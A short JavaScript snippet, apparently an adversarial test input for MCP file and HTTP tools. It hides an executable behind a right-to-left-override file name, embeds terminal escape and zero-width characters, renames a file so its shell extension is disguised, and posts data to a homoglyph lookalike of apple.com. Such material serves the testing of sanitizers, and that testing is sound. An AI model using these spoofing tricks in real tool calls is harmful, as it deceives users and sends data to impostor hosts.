const path = "safe\u202Egpj.exe\u001b[31m\u200b";
await mcp.filesystem.move_file({ source: path, destination: "‮txt.sh" });
await mcp.http.post({ url: "https://аpple.com", body: { "a\nb": path } });
